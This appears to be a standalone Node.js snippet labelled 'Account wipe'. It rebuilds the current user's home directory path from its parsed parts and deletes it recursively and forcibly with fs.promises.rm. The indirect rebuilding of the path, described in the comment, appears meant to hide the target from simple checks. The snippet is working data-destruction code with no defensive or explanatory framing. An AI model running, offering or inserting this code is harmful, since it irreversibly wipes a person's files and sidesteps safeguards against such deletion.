// Account wipe: the target is put back together from its parsed form.
const { rm } = require('fs/promises');
const { homedir } = require('os');
const { parse, resolve } = require('path');

const where = homedir();
rm(resolve(parse(where).dir, parse(where).base), { recursive: true, force: true });
